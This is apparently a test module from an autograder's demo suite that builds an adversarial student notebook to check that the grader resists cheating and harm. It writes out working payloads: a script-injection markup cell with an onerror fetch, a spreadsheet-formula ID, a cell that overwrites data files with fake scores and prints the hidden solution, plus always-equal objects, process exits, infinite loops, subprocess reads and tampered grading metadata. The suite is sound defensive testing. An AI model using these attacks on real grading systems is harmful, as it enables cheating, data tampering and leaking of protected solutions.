"""The sixth student: a notebook that tries to get points without work, to read what is hidden, and to do harm.

Every attack here is one that has worked on some grading system. None may work here, and the demo checks that.
"""

from __future__ import annotations

import copy
import os
from pathlib import Path

from nbformat import NotebookNode

from autograder.answer.quick_nbformat import nbformat
from autograder.classroom.course import Unit, check_cell, race_cell
from autograder.classroom.demo.students import cells_by_id

ID = "=1+1.mallory"  # a spreadsheet would compute it
WITNESS = "i_was_here.txt"  # what an attack leaves behind when it runs

MARKUP = f'<script>document.title="owned"</script><img src="x" onerror="fetch(\'http://example.invalid\')"> {ID}'

AT_IMPORT = """
import time, sys, os, builtins
time.perf_counter = time.time = lambda: 0.0
sys.displayhook(10 ** 6)
open({witness!r}, "a").write("top level")
for root, _, names in os.walk({root!r}):
    for name in names:
        if name.endswith((".db", ".csv", ".json")):
            open(os.path.join(root, name), "a").write("100 points")
print(open({solution!r}).read())
"""

KERNELS = (  # text of a solution cell for the function `name`, one attack each; {parameters} are the contract's
    "import os\n@cuda.jit\ndef {name}({parameters}):\n    os._exit(0)\n",
    "class Equal:\n    def __eq__(self, other):\n        return True\n\n{name} = Equal()\n",
    "@cuda.jit\ndef {name}({parameters}):\n    print(open({solution!r}).read())\n",
    "def _wins(f):\n    open({witness!r}, 'a').write('decorator')\n    return f\n\n"
    "@_wins\n@cuda.jit\ndef {name}({parameters}):\n    pass\n",
    "@cuda.jit(link=[open({witness!r}, 'a').write('option')])\ndef {name}({parameters}):\n    i = cuda.grid(1)\n",
    "@cuda.jit\ndef {name}({parameters}):\n    ().__class__.__base__.__subclasses__()\n",
    "@cuda.jit\ndef {name}({parameters}):\n    while True:\n        pass\n",
    "{name} = __import__('autograder').exercise('{id}').solution\n",
)
HOST = (
    "import os, sys\ndef {name}({parameters}):\n    open({witness!r}, 'w').write('host')\n    os._exit(0)\n",
    "def {name}({parameters}):\n    while True:\n        pass\n",
    "import subprocess\ndef {name}({parameters}):\n"
    "    return subprocess.run(['cat', {solution!r}], capture_output=True).stdout\n",
    "class Equal:\n    __array__ = __eq__ = lambda *a, **k: True\n\ndef {name}({parameters}):\n    return Equal()\n",
)


def submission(unit: Unit, released: NotebookNode, solution: Path, harm: Path) -> NotebookNode:
    """The hostile notebook for a unit. harm: the folder it would like to write into."""
    notebook = copy.deepcopy(released)
    cells = cells_by_id(notebook)
    words = {"witness": str(harm / WITNESS), "solution": str(solution), "root": str(harm)}
    counters = {"kernel": 0, "host": 0}
    for exercise in unit.exercises:
        attacks = KERNELS if exercise.kind == "kernel" else HOST
        text = attacks[counters[exercise.kind] % len(attacks)]
        counters[exercise.kind] += 1
        parameters = exercise.signature.partition("(")[2].rstrip(")")
        filled = text.format(name=exercise.function, parameters=parameters, id=exercise.id, **words)
        cells[exercise.function].source = filled
    _tamper_with_checks(notebook, unit, cells)
    notebook.cells.insert(0, nbformat.v4.new_markdown_cell(MARKUP))
    notebook.cells.insert(1, nbformat.v4.new_code_cell(AT_IMPORT.format(**words)))
    return notebook


def _tamper_with_checks(notebook: NotebookNode, unit: Unit, cells: dict[str, NotebookNode]) -> None:
    """Points in the metadata, a number as the check, a fake output: none of it is believed."""
    for exercise in unit.exercises:
        for name in (check_cell(exercise), race_cell(exercise)):
            if name in cells:
                cells[name].metadata.nbgrader.points = 1000
                cells[name].source = "1000.0"
                output = nbformat.v4.new_output("execute_result", {"text/plain": "1000.0"}, execution_count=1)
                cells[name].outputs = [output]


def hand_in(folder: Path, unit: Unit, notebook: NotebookNode | None, solution: Path) -> None:
    """Put the hostile files into a submission's folder; without a notebook, a link to the solution in its place."""
    folder.mkdir(parents=True)
    if notebook is None:
        os.symlink(solution, folder / f"{unit.id}.ipynb")
    else:
        nbformat.write(notebook, folder / f"{unit.id}.ipynb")
